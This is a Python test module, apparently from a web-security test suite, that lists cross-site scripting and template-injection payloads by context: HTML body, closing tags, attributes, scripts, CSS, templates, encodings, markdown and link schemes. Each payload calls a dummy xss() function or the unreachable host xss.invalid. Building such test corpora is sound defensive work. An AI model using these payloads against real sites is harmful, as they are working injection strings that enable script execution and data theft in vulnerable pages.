"""Words that run as a script wherever a page forgets to escape them: one for each way out of each place they may stand in.

Each calls `xss`, asks for an address of PLACE, or leaves an element marked `data-xss`: a page that does any of these is broken.
"""

from __future__ import annotations

PLACE = "xss.invalid"
"""Nobody is there; a request to it is one that a payload made."""

BODY = (
    "<script>xss()</script>", "<svg/onload=xss()>", "<img src=x onerror=xss()>", "<b data-xss>", "<ScRiPt>xss()</sCrIpT>",
    "<script\t>xss()</script\n>", "<script/x>xss()</script>", "<<script>xss()//<</script>",
    "<svg><script>xss()</script></svg>", "<body onload=xss()>", "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>", "<video><source onerror=xss()>", "<audio src=x onerror=xss()>",
    "<iframe srcdoc='<script>parent.xss()</script>'>", f"<script src=//{PLACE}/s></script>", f"<img src=//{PLACE}/i>",
    f"<iframe src=//{PLACE}/f>", f"<object data=//{PLACE}/o>", f"<embed src=//{PLACE}/e>", "<marquee onstart=xss()>",
    "<style onload=xss()></style>", "<math><mi/><svg/onload=xss()></math>", "<b data-xss\0>",
    f"<meta http-equiv=refresh content='0;url=//{PLACE}/m'>", f"<base href=//{PLACE}/>",
    f"<link rel=stylesheet href=//{PLACE}/l>", "<template><b data-xss></template><svg/onload=xss()>",
    "<noscript><p title='</noscript><svg/onload=xss()>'>",
)  # fmt: skip
CLOSING = (
    "</title><svg/onload=xss()>", "</textarea><svg/onload=xss()>", "</style><svg/onload=xss()>", "</script><svg/onload=xss()>",
    "--><svg/onload=xss()>", "]]><svg/onload=xss()>", "</option></select><svg/onload=xss()>", "</noscript><svg/onload=xss()>",
    "</template><svg/onload=xss()>", "</svg><svg/onload=xss()>",
)  # fmt: skip
ATTRIBUTE = (
    '"><svg/onload=xss()>', "'><svg/onload=xss()>", '" autofocus onfocus=xss() x="', "' autofocus onfocus=xss() x='",
    " autofocus onfocus=xss() ", '" style="position:fixed;inset:0" onmouseover=xss() data-xss="', "`><svg/onload=xss()>",
    '" data-xss="', "' data-xss='", " data-xss ",
)  # fmt: skip
SCRIPT = (
    "';xss();//", '";xss();//', "${xss()}", "\\';xss();//", "\u2028xss()", "*/xss();/*", "</script><script>xss()</script>",
)  # fmt: skip
STYLE = (
    f"x:url(//{PLACE}/c)",
    f"}}*{{background:url(//{PLACE}/b)}}",
    f"@import '//{PLACE}/t';",
    "expression(xss())",
)
TEMPLATE = (
    "{{7*191}}",
    "{% debug %}",
    "#{7*191}",
    "${7*191}",
    "<%= 7*191 %>",
    "{{constructor.constructor('xss()')()}}",
)
ENCODED = (
    "&lt;svg/onload=xss()&gt;", "%3Csvg/onload=xss()%3E", "\uff1csvg/onload=xss()\uff1e", "\\u003csvg/onload=xss()\\u003e",
    "&#60;svg/onload=xss()&#62;", "+ADw-script+AD4-xss()+ADw-/script+AD4-", "<scr\u0000ipt>xss()</script>",
)  # fmt: skip
MARKED_UP = (
    "[a](javascript:xss())", "![a](javascript:xss())", "[a]: javascript:xss()", "<javascript:xss()>",
    "[a](data:text/html,<script>)", "## <svg/onload=xss()>", "- <svg/onload=xss()>", '[a](x "onmouseover=xss()")',
    "`<svg/onload=xss()>`", "**<svg/onload=xss()>**",
)  # fmt: skip
LINKS = (
    "javascript:xss()", "JaVaScRiPt:xss()", "java\tscript:xss()", "\x01javascript:xss()", " javascript:xss()",
    "vbscript:xss()", "data:text/html,<script>parent.xss()</script>", "javascript://x%0Axss()", 'https://x/"onclick=xss()//',
    "javascript&colon;xss()",
)  # fmt: skip
KINDS = (*BODY, *CLOSING, *ATTRIBUTE, *SCRIPT, *STYLE, *TEMPLATE, *ENCODED, *MARKED_UP)
SOLVED = "1337"
"""What those of a template come to."""


def fitting(length: int | None, turn: int) -> tuple[str, ...]:
    """As many of them as fit, beginning with another each turn, in words between."""
    taken, left = list[str](), length if length is not None else 1_000_000
    for place in range(len(KINDS)):
        one = KINDS[(turn + place) % len(KINDS)].replace("\0", "\ufffd")
        if len(one) + 1 <= left:
            taken.append(one)
            left -= len(one) + 1
    return tuple(taken)
